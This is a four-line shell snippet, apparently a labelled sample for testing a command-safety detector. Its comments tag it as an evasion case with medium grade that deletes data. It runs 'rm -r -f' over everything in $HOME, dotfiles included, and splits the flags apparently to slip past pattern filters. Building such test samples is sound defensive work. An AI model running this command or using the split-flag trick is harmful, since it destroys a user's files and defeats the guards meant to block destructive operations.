# evasion: rm with split flags over the home directory
# grade: medium; does: delete
d="$HOME"
rm -r -f -- "$d"/* "$d"/.[!.]*
